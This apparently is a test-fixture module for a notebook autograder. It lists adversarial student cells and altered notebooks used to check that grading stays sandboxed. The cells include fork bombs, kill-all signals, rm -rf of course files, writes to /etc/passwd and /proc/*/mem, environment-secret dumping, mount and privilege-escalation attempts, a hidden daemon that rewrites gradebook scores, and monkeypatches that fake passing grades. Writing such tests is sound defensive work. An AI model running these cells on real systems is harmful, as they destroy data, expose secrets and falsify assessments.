"""Cells that somebody might hand in to earn more than was answered, to read what is not theirs, to do harm.

Each is one student of the class that ``doors.py`` marks. ``{root}`` is the course, ``{port}`` a port that
listens on this machine, ``{canary}`` a folder that everybody may write to.
"""

SLEEP = "31337"
#: Would write into the gradebook, wherever it is found; the rows are compared afterwards.
BOOK = """
import glob, os, sqlite3
found = ['{root}/gradebook.db']
for pid in os.listdir('/proc'):
    try:
        found += [os.readlink(f'/proc/{{pid}}/cwd') + '/gradebook.db']
        found += glob.glob(f'/proc/{{pid}}/root{root}/gradebook.db')
        found += [os.readlink(f) for f in glob.glob(f'/proc/{{pid}}/fd/*') if 'gradebook' in os.readlink(f)]
    except OSError:
        pass
def give():
    for path in found:
        try:
            with sqlite3.connect(path, timeout=1) as book:
                book.execute('update grade set manual_score = 1000, auto_score = 1000')
        except Exception:
            pass
"""
OUTLIVE = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 45
        while time.time() < end:
            give()
            time.sleep(1)
        os.execvp('sleep', ['sleep', '31337'])
    os._exit(0)
"""
RECORD = """
from IPython.display import display
from eqlib.assess.records import MIME, receipt_of
answer = {{'direction': 'reverse', 'K': 'same', 'reason': 'q_above_K'}}
record = {{'format': 1, 'assignment': 'tiny', 'question': 'water', 'student': None, 'answer': answer,
          'at': '2020-01-01T00:00:00Z', 'history': []}}
record['receipt'] = receipt_of('tiny', 'water', None, answer, record['at'])
for shape in (record, {{'records': {{'water': record}}}}, {{**record, 'points': 4}}):
    display({{MIME: shape, 'text/plain': '4.0'}}, raw=True)
"""
RESTORE = """
from eqlib.notebook import restore
import json
answer = {{'direction': 'reverse', 'K': 'same', 'reason': 'q_above_K'}}
restore(json.dumps({{'student': 'w', 'records': {{'water': {{'question': 'water', 'answer': answer}}}}}}))
"""
CELLS = {
    # Processes, time, memory, output
    "fork-bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "fork-spin": "import os\nfor _ in range(20):\n    if os.fork() == 0:\n        while True: pass",
    "memory": "kept = []\nwhile True: kept.append(bytearray(10**8))",
    "memory-spread": "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n"
    "        kept = bytearray(9 * 10**8); kept[::4096] = b'x' * len(kept[::4096]); time.sleep(60)",
    "loop": "while True: pass",
    "loop-deaf": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
    "exit": "import os\nos._exit(0)",
    "kill-self": "import os\nos.kill(os.getpid(), 9)",
    "kill-parent": "import os\nos.kill(os.getppid(), 9)",
    "kill-all": "import os\nos.kill(-1, 9)",
    "kill-each": "import os\nfor pid in range(2, 40000):\n    try: os.kill(pid, 9)\n    except OSError: pass",
    "segfault": "import ctypes\nctypes.string_at(0)",
    "print": "for _ in range(10**6): print('y' * 1000)",
    "print-raw": "import os\nfor _ in range(10**4): os.write(1, b'y' * 10**5)",
    "big-file": "open('big', 'wb').write(b'0' * 10**9)",
    "big-display": "from IPython.display import display, HTML\ndisplay(HTML('<b>' + 'x' * 64_000_000))",
    "svg": "from IPython.display import display, HTML\ndisplay(HTML('<svg>' * 120_000))",
    "recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
    "huge-integer": "10 ** 10**8",
    "threads": "import threading\nfor _ in range(10**4): threading.Thread(target=__import__('time').sleep, "
    "args=(60,), daemon=False).start()",
    "atexit": "import atexit, time\natexit.register(lambda: time.sleep(600))",
    "alarm": "import os, signal\nsignal.signal(signal.SIGALRM, lambda *a: os._exit(0))\n"
    "signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)",
    "daemon": f"import subprocess\nsubprocess.Popen(['sleep', '{SLEEP}'], start_new_session=True)",
    # What is not theirs
    "passwd": "open('/etc/passwd', 'a').write('x')",
    "course": "import os\nos.system('cp -r {root}/source . ; rm -rf {root}/source {root}/release')",
    "canary": "open('{canary}/read').read()\nopen('{canary}/written', 'w').write('x')",
    "traces": "for f in ('/tmp', '/var/tmp', '/dev/shm', '/usr'):\n    try: "
    "open(f + '/eqlib-doors-trace', 'w').write('x')\n    except OSError: pass",
    "network": "import socket\nfor host in ('127.0.0.1', '::1', 'localhost'):\n    try: "
    "socket.create_connection((host, {port}), 2).send(b'x')\n    except OSError: pass\n"
    "s = socket.socket(socket.AF_UNIX)\ns.connect('\\0eqlib-doors')",
    "udp": "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', "
    "('127.0.0.1', {port}))",
    "environ": "import glob\nfor f in glob.glob('/proc/*/environ'):\n    try: print(open(f).read())\n"
    "    except OSError: pass",
    "memory-of-others": "import glob\nfor f in glob.glob('/proc/*/mem'):\n    try:\n        "
    "m = open(f, 'r+b'); m.seek(4194304); m.write(b'x')\n    except (OSError, ValueError): pass",
    "mount": "import ctypes, os\nl = ctypes.CDLL(None)\nl.unshare(0x10020000)\n"
    "l.umount2(b'{root}', 2)\nl.mount(b'none', b'/tmp', b'tmpfs', 0, None)\nos.system('nsenter -t 1 -a id')",
    "root": "import os\nfor f in (os.setuid, os.setgid, lambda n: os.setgroups([n]), "
    "lambda n: os.chroot('/')):\n    try: f(0)\n    except OSError: pass\n"
    "os.system('su -c id; sudo -n id')",
    "trace-others": "import ctypes, os\nl = ctypes.CDLL(None)\n"
    "for pid in [1, os.getppid()]: l.ptrace(16, pid, 0, 0)",
    "gradebook": BOOK + "give()",
    "outlive": BOOK + OUTLIVE,
    "links": "import os\nfor n, f in enumerate(('{root}/gradebook.db', '/etc/shadow', '/')):\n"
    "    os.symlink(f, f'link{{n}}')\nos.rename('link0', 'tiny.ipynb')",
    "python-path": "import sys, os, eqlib\nfor f in [*sys.path, os.path.dirname(eqlib.__file__)]:\n    try: "
    "open(os.path.join(f or '.', 'sitecustomize.py'), 'w').write('1/0')\n    except OSError: pass",
    # Points
    "transformer": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
    "tree": "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, node): "
    "return ast.Pass()\nget_ipython().ast_transformers.append(T())",
    "silence": "get_ipython().showtraceback = lambda *a, **k: None\n"
    "type(get_ipython()).showtraceback = lambda *a, **k: None",
    "run-code": "import IPython.core.interactiveshell as i\n"
    "i.InteractiveShell.run_code = lambda *a, **k: False\nget_ipython().run_cell = lambda *a, **k: None",
    "compile": "import builtins as b\nb.compile = b.exec = b.isinstance = lambda *a, **k: True",
    "trace": "import sys\nsys.settrace(lambda f, e, a: None)\nsys.setprofile(lambda *a: None)",
    "assertion": "import builtins\nclass AssertionError(SystemExit): code = 0\n"
    "builtins.AssertionError = AssertionError",
    "modules": "import sys, types\nfor name in list(sys.modules):\n    if name.startswith(('eqlib', "
    "'nbgrader')):\n        sys.modules[name] = types.SimpleNamespace(panel=lambda *a: 4.0, "
    "student=lambda *a: None, restore=lambda *a: None, numbers=lambda *a: {{}})",
    "checker": "import eqlib.assess.mark as m, eqlib.notebook as n\n"
    "m.mark = lambda *a, **k: 4.0\nn.panel = lambda *a: 4.0\npanel = lambda *a: 4.0",
    "record": RECORD,
    "restore": RESTORE,
    "garbage": "import os\nfor fd in range(3, 60):\n    try: os.write(fd, b'\\xff' * 4096)\n"
    "    except OSError: pass",
    "reply": "import json, os, struct\n"
    "d = json.dumps({{'reply': {{'status': 'ok', 'nonce': ''}}}}).encode()\n"
    "for fd in range(3, 60):\n    try: os.write(fd, (struct.pack('!Q', len(d)) + d) * 50)\n"
    "    except OSError: pass",
    "finally": "import threading, os, time\nthreading.Thread(target=lambda: (time.sleep(0.5), os._exit(0)), "
    "daemon=True).start()",
    "hide-output": "import sys, io\nsys.stdout = sys.stderr = io.StringIO()\n"
    "get_ipython().display_pub.publish = lambda *a, **k: None",
    "nested": "get_ipython().run_cell('raise SystemExit')\nget_ipython().kernel.do_shutdown(False)",
}


def cells(root, port, canary):
    """The cells with this machine's places filled in, by student."""
    return {name: text.format(root=root, port=port, canary=canary) for name, text in CELLS.items()}


def _outputs(book, *outputs):
    for cell in book["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] += outputs


def _shown(kind, text):
    return {"output_type": "display_data", "data": {kind: text}, "metadata": {}}


def _many_cells(book):
    empty = {"cell_type": "code", "source": "", "metadata": {}, "outputs": [], "execution_count": None}
    book["cells"] += [dict(empty, id=f"e{number}") for number in range(20_000)]


def _scores(book):
    for cell in book["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["metadata"]["nbgrader"].update(points=1000, grade=False)
            value = {"output_type": "execute_result", "data": {"text/plain": "4.0"}, "metadata": {}}
            cell.update(outputs=[{**value, "execution_count": 1}], source="4.0")


def _deep(book):
    deep = []
    for _ in range(900):
        deep = [deep]
    book["metadata"]["deep"] = deep


#: Notebooks that are changed as files, by student: what is done to their JSON.
BOOKS = {
    "saved-svg": lambda book: _outputs(book, _shown("text/html", "<svg>" * 120_000)),
    "saved-script": lambda book: _outputs(book, _shown("text/html", "<script>document.title='RUN'</script>")),
    "many-cells": _many_cells,
    "scores": _scores,
    "deep": _deep,
    "huge-count": lambda book: [c.update(execution_count=10**400) for c in book["cells"]],
    "control": lambda book: book["cells"].append(
        {"cell_type": "markdown", "id": "c", "source": "\x1b[2J\x07\x00", "metadata": {}}
    ),
    "doubled": lambda book: book["cells"].extend([dict(c) for c in book["cells"]]),
    "stripped": lambda book: [c["metadata"].clear() for c in book["cells"]],
    "emptied": lambda book: book["cells"].clear(),
}
